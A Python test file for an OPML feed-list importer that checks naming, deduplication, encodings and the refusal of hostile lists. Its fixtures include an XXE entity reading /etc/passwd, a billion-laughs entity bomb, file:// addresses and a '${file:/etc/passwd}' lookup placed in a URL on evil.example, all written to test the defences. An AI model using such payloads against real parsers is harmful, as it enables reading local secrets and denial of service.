"""Lists of feeds from other readers: taken over once, named freshly, and never trusted."""

import datetime as dt

import pytest

from watcher.service.opml import DEEPEST, LARGEST, MOST_OUTLINES, OpmlError, plan_import, read_opml, write_opml
from watcher.settings import Feed

LIST = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0"><head><title>Mine</title></head><body>
  <outline text="Wires"><outline text="Südkaukasus!">
    <outline text="Armen Press" type="rss" xmlUrl="https://armenpress.example/rss" language="EN-us"/>
    <outline title="Новости" text="x" xmlUrl="https://www.newsam.example/rss"/>
  </outline><outline text="Armen press" xmlUrl="https://armenpress.example/rss2" language="nonsense code"/></outline>
  <outline text="Twice" xmlUrl="https://armenpress.example/rss"/>
  <outline text="Known" xmlUrl="https://known.example/rss"/>
  <outline text="Local" xmlUrl="file:///etc/passwd"/><outline text="Spool" xmlUrl="folder:///etc"/>
</body></opml>"""


def feed(name: str, url: str) -> Feed:
    return Feed(id=name, url=url, wire=name, group="g", language="en", every=dt.timedelta(minutes=5))


def test_a_list_becomes_lines() -> None:
    """Headings become groups, titles ids; what is there, comes twice or is not on the web is left out and counted."""
    found = plan_import(read_opml(LIST.encode()), [feed("armen-press", "https://known.example/rss")])
    assert [str(line) for line in found.lines] == [
        '- {id: armen-press-2, url: "https://armenpress.example/rss", group: sudkaukasus, language: en-us}',
        '- {id: newsam, url: "https://www.newsam.example/rss", group: sudkaukasus}',
        '- {id: armen-press-3, url: "https://armenpress.example/rss2", group: wires}',
    ]
    assert found.there_already == 2
    assert found.unusable == (
        "Local: this is no address of a feed",
        "Spool: only addresses of the web are taken from a list",
    )


def test_an_address_that_browsers_mark_as_a_feed_is_taken_as_one_of_the_web() -> None:
    """Old readers export them; whoever watches it already has it."""
    text = """<opml><body><outline text="a" xmlUrl="feed://a.example/rss"/>
      <outline text="b" xmlUrl="FEED:https://b.example/rss"/><outline text="c" xmlUrl="feed:folder:///etc"/>
      <outline text="known" xmlUrl="feed:https://known.example/rss"/></body></opml>"""
    found = plan_import(read_opml(text.encode()), [feed("known", "https://known.example/rss")])
    assert [line.url for line in found.lines] == ["http://a.example/rss", "https://b.example/rss"]
    assert found.there_already == 1
    assert found.unusable == ("c: only addresses of the web are taken from a list",)


def test_a_list_in_another_encoding_is_read() -> None:
    """As its declaration says."""
    text = LIST.replace("UTF-8", "windows-1251").replace("Südkaukasus", "Кавказ")
    assert [each.title for each in read_opml(text.encode("cp1251"))][1] == "Новости"


def test_no_address_asks_for_our_secrets() -> None:
    """What looks like a place for one stays as it was written, a sign among others."""
    text = '<opml><body><outline text="e" xmlUrl="https://evil.example/${file:/etc/passwd}"/></body></opml>'
    (line,) = plan_import(read_opml(text.encode()), []).lines
    assert str(line) == '- {id: e, url: "https://evil.example/$${file:/etc/passwd}"}'


BOMB = '<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]><opml><body><outline text="&b;"/></body></opml>'
XXE = '<!DOCTYPE opml [<!ENTITY a SYSTEM "file:///etc/passwd">]><opml><body><outline text="&a;"/></body></opml>'


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BOMB, "declares entities"),
        (XXE, "declares entities"),
        ("<outline>" * (DEEPEST + 1), f"nested more than {DEEPEST} deep"),
        ("<opml>" + "<outline/>" * MOST_OUTLINES, "split the list"),
        (" " * (LARGEST + 1), "larger than"),
        ("<rss/>", "its root element is <rss>"),
        ("<html><p></html>", "its root element is <html>"),
        ("<opml>\n<body>", "^line 2, column 7: no element found"),
        ("", "no OPML, nor XML at all: line 1, column 1: no element found"),
        ('<?xml version="1.0" encoding="klingon"?><opml/>', "unknown encoding"),
    ],
    ids=["bomb", "xxe", "deep", "many", "large", "rss", "page", "cut off", "empty", "encoding"],
)
def test_a_list_that_is_none_or_does_harm_is_refused(data: str, reason: str) -> None:
    """With the reason, and before it costs anything."""
    with pytest.raises(OpmlError, match=reason):
        read_opml(data.encode())


def test_what_is_written_can_be_read_again() -> None:
    """Feeds stand under their groups; signs of XML in an address survive."""
    feeds = [
        {"id": "ap", "url": "https://ap.example/rss?a=1&b=<2>", "group": "wires", "language": "fr"},
        {"id": "bbc", "url": 'https://bbc.example/"x"'},
        {"id": "tass", "url": "https://tass.example/${KEY}", "group": "wires"},
    ]
    told = [(each.title, each.url, each.group, each.language) for each in read_opml(write_opml(feeds).encode())]
    assert told == [
        ("ap", "https://ap.example/rss?a=1&b=<2>", "wires", "fr"),
        ("tass", "https://tass.example/${KEY}", "wires", ""),
        ("bbc", 'https://bbc.example/"x"', "", ""),
    ]
